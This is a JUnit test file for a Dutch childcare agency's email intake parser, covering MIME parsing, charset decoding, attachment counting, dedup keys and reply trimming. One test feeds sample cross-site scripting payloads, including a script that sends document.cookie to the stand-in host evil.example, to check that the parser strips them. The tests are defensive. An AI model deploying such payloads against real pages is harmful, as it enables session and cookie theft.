package nl.gastouderbureau.complaints.intake.mailin;

import org.junit.jupiter.api.Test;

import java.time.Instant;

import static org.assertj.core.api.Assertions.assertThat;

class MailReaderTest {

    @Test
    void aPlainMailGivesSenderSubjectTextAndTheTimeTheMailboxReceivedIt() throws Exception {
        IncomingMail mail = RawMail.read(RawMail.plain("\"Oma Jansen\" <Oma@Example.nl>", "Een idee", "",
                "Een nieuwsbrief per kwartaal zou fijn zijn.\r\n\r\n\r\n\r\nGroet,   \nOma"));

        assertThat(mail.fromAddress()).isEqualTo("Oma@Example.nl");
        assertThat(mail.fromName()).isEqualTo("Oma Jansen");
        assertThat(mail.subject()).isEqualTo("Een idee");
        assertThat(mail.text()).isEqualTo("Een nieuwsbrief per kwartaal zou fijn zijn.\n\nGroet,\nOma");
        assertThat(mail.attachmentCount()).isZero();
        assertThat(mail.receivedAt()).isEqualTo(Instant.parse("2026-11-25T09:30:00.123Z"));
        assertThat(mail.contentType()).isEqualTo("text/plain");
    }

    @Test
    void plainTextIsPreferredOverHtmlAndAttachmentsAreCountedButNotAnInlineLogo() throws Exception {
        IncomingMail mail = RawMail.read("""
                From: ouder@example.nl
                To: feedback@gastouderbureau.example
                Subject: =?UTF-8?Q?Opvang_=C3=A9n_vervoer?=
                Message-ID: <m1@example.nl>
                MIME-Version: 1.0
                Content-Type: multipart/mixed; boundary="outer"

                --outer
                Content-Type: multipart/related; boundary="related"

                --related
                Content-Type: multipart/alternative; boundary="alt"

                --alt
                Content-Type: text/plain; charset=ISO-8859-1
                Content-Transfer-Encoding: quoted-printable

                Caf=E9 om de hoek is een goed idee.
                --alt
                Content-Type: text/html; charset=UTF-8

                <p>HTML <b>versie</b></p>
                --alt--
                --related
                Content-Type: image/png; name="logo.png"
                Content-Disposition: inline; filename="logo.png"
                Content-ID: <logo>
                Content-Transfer-Encoding: base64

                iVBORw0KGgo=
                --related--
                --outer
                Content-Type: application/pdf; name="rooster.pdf"
                Content-Disposition: attachment; filename="rooster.pdf"
                Content-Transfer-Encoding: base64

                JVBERi0xLjQ=
                --outer
                Content-Type: image/jpeg; name="foto.jpg"
                Content-Transfer-Encoding: base64

                /9j/4AAQ
                --outer
                Content-Type: message/rfc822

                From: iemand@example.nl
                Subject: doorgestuurd

                tekst
                --outer--
                """);

        assertThat(mail.subject()).isEqualTo("Opvang én vervoer");
        assertThat(mail.text()).isEqualTo("Café om de hoek is een goed idee.");
        assertThat(mail.attachmentCount()).isEqualTo(3);
        assertThat(mail.contentType()).isEqualTo("multipart/mixed");
    }

    @Test
    void anHtmlOnlyMailBecomesItsTextWithoutAnythingHostile() throws Exception {
        IncomingMail mail = RawMail.read("""
                From: ouder@example.nl
                Subject: Html
                Message-ID: <html@example.nl>
                MIME-Version: 1.0
                Content-Type: text/html; charset=UTF-8

                <html><head><style>p { color: red }</style><script>alert('head')</script></head>
                <body onload="steal()"><p>Goede opvang &amp; fijne gastouder.</p>
                <script>document.location='https://evil.example/?c='+document.cookie</script>
                <img src="x" onerror="alert(1)"><a href="javascript:alert(2)">Klik hier</a>
                <!-- verborgen opmerking --></body></html>
                """);

        assertThat(mail.text()).isEqualTo("Goede opvang & fijne gastouder.\n\nKlik hier");
    }

    @Test
    void theKeyFollowsTheMessageIdAndWithoutOneTheHeadersAndBody() throws Exception {
        String mail = RawMail.plain("ouder@example.nl", "Vraag", "", "Tekst");
        String sameIdOtherText = mail.replace("Tekst", "Andere tekst");
        String withoutId = mail.replaceAll("Message-ID: .*\n", "");
        Instant later = RawMail.RECEIVED.plusSeconds(60);

        assertThat(key(mail, RawMail.RECEIVED)).isEqualTo(key(sameIdOtherText, later)).hasSize(64);
        assertThat(key(withoutId, RawMail.RECEIVED))
                .isEqualTo(key(withoutId, later))
                .isNotEqualTo(key(withoutId.replace("Tekst", "Andere tekst"), RawMail.RECEIVED))
                .isNotEqualTo(key(mail, RawMail.RECEIVED));
    }

    @Test
    void aHandMadeMailWithoutIdOrDateIsTheSameOnlyWhileItWaitsInTheMailbox() throws Exception {
        String handMade = RawMail.plain("ouder@example.nl", "Vraag", "", "Tekst")
                .replaceAll("Message-ID: .*\n", "").replaceAll("Date: .*\n", "");

        assertThat(key(handMade, RawMail.RECEIVED)).isEqualTo(key(handMade, RawMail.RECEIVED))
                .isNotEqualTo(key(handMade, RawMail.RECEIVED.plusSeconds(60)));
    }

    private static String key(String mail, Instant receivedAt) throws Exception {
        return MailReader.key(RawMail.parse(mail), receivedAt);
    }

    @Test
    void aQuotedReplyIsCutOff() throws Exception {
        IncomingMail mail = RawMail.read(RawMail.plain("ouder@example.nl", "Re: [FB-2026-0001] We hebben uw idee ontvangen", "", """
                Nog een aanvulling: graag ook per mail.

                Op wo 25 nov 2026 om 10:00 schreef Gastouderbureau <feedback@gastouderbureau.example>:
                > Bedankt voor uw idee.
                > Kenmerk FB-2026-0001"""));

        assertThat(mail.text()).isEqualTo("Nog een aanvulling: graag ook per mail.");
    }
}
